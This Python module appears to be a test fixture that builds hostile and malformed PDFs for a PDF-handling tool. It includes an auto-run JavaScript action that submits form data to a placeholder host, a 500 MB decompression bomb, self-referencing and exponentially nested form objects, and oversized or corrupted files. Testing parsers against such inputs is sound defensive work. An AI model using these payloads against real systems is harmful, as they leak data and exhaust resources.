"""PDFs that people send by mistake or on purpose, made here."""

import io
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name

REPORT = (Path(__file__).parent / "pdfs" / "cid-unigb-ucs2.pdf").read_bytes()
PASSWORD = "011235"


def saved(pdf, **options):
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def locked(**options):
    lock = pikepdf.Encryption(user=PASSWORD, owner="owner", **options)
    with pikepdf.open(io.BytesIO(REPORT)) as pdf:
        return saved(pdf, encryption=lock)


def unprintable():
    """Opens without a password, but says that nothing may be copied."""
    lock = pikepdf.Encryption(user="", owner="owner", allow=pikepdf.Permissions(extract=False))
    with pikepdf.open(io.BytesIO(REPORT)) as pdf:
        return saved(pdf, encryption=lock)


def scripted():
    """Scripts, an attachment, a form and a link beside the report."""
    script = {"/S": Name.JavaScript, "/JS": "this.submitForm('http://example.invalid/')"}
    with pikepdf.open(io.BytesIO(REPORT)) as pdf:
        pdf.Root.OpenAction = Dictionary(script)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", Dictionary(script)])))
        pdf.attachments["secret.txt"] = b"CNRY-ATTACHED"
        field = Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="a", V="CNRY-FIELD",
            Rect=Array([0, 0, 10, 10]), AA=Dictionary(K=Dictionary(script)),
        )  # fmt: skip
        pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))
        pdf.pages[0].obj.Annots = Array([pdf.Root.AcroForm.Fields[0]])
        return saved(pdf)


def with_content(content, pages=1, resources=None, **keys):
    with pikepdf.new() as pdf:
        stream = pdf.make_stream(content, **keys)
        for _ in range(pages):
            page = pdf.add_blank_page()
            page.obj.Contents = stream
            if resources:
                page.obj.Resources = resources(pdf)
        return saved(pdf)


def many_pages(pages=10_000):
    return with_content(b"BT ET", pages)


def bomb(megabytes=500):
    """A content stream that unpacks to zeros."""
    packer = zlib.compressobj(9)
    packed = [packer.compress(bytes(2**20)) for _ in range(megabytes)]
    data = b"".join([*packed, packer.flush()])
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        page.obj.Contents = pdf.make_stream(b"")
        page.obj.Contents.write(data, filter=Name.FlateDecode)
        return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def recursive():
    """A form that draws itself, and one that draws eight others that each draw eight."""

    def resources(pdf):
        loop = pdf.make_stream(b"/L Do /L Do", Type=Name.XObject, Subtype=Name.Form)
        loop.BBox = Array([0, 0, 10, 10])
        loop.Resources = Dictionary(XObject=Dictionary(L=loop))
        below = loop
        for _ in range(12):
            form = pdf.make_stream(b"/X Do " * 8, Type=Name.XObject, Subtype=Name.Form)
            form.BBox = Array([0, 0, 10, 10])
            form.Resources = Dictionary(XObject=Dictionary(X=below))
            below = form
        return Dictionary(XObject=Dictionary(L=loop, X=below))

    return with_content(b"/L Do /X Do", resources=resources)


def picture_only():
    def resources(pdf):
        picture = pdf.make_stream(bytes(300), Type=Name.XObject, Subtype=Name.Image)
        picture.Width, picture.Height, picture.BitsPerComponent = 10, 10, 8
        picture.ColorSpace = Name.DeviceRGB
        return Dictionary(XObject=Dictionary(P=picture))

    return with_content(b"q 500 0 0 500 0 0 cm /P Do Q", resources=resources)


def endless_text():
    """Four million letters on one page."""

    def resources(_pdf):
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        return Dictionary(Font=Dictionary(F=font))

    return with_content(
        b"BT /F 1 Tf 10 700 Td " + b"(aaaaaaaaaa) Tj " * 400_000 + b"ET", resources=resources
    )


def broken_xref():
    place = REPORT.rindex(b"startxref")
    return REPORT[:place] + b"startxref\n99999999\n%%EOF\n"
